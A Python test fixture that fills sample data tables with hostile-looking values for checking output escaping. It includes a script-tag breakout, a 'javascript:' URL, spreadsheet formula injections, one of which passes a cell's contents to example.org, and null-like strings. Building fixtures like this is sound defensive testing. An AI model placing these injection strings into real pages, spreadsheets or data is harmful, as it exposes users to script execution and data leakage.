"""The sample package with words in it that some format could take for something else than words."""

from __future__ import annotations

import polars as pl
from sample_package import sample_tables

SCRIPT = "</script><script>alert('x')</script><!--"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"look")'
LINES = "two\r\nlines, a \ttab, “quotes”, a \" and a ' and a | and a \u2028 separator 🕊"
NOTHING = "NA"  # which data frames like to take for no value
NEGATIVE = "-1+1"


def hostile_tables() -> dict[str, pl.DataFrame]:
    """Keys, offsets and kinds are the sample's; names, roles, labels and headlines are not meant well."""
    tables = sample_tables()
    _set(tables, "documents", "headline", [SCRIPT, FORMULA])
    _set(tables, "documents", "publisher", [LINES, NOTHING])
    _set(tables, "documents", "url", ["javascript:alert(1)", "https://example.org/a?b=<c>&d"])
    _set(tables, "documents", "published", ["2024-03-04", None])
    _set(tables, "people", "name", [LINES, SCRIPT])
    _set(tables, "people", "description", [NOTHING, FORMULA])
    _set(tables, "organizations", "name", [NEGATIVE, NOTHING, "null"])
    _set(tables, "organizations", "acronym", ["@SUM(A1)", "NaN", "None"])
    _set(tables, "affiliations", "role", [SCRIPT])
    _set(tables, "events", "label", [SCRIPT, FORMULA, LINES, NOTHING])
    return tables


def _set(tables: dict[str, pl.DataFrame], name: str, column: str, values: list[str | None]) -> None:
    tables[name] = tables[name].with_columns(pl.Series(column, values, pl.String))
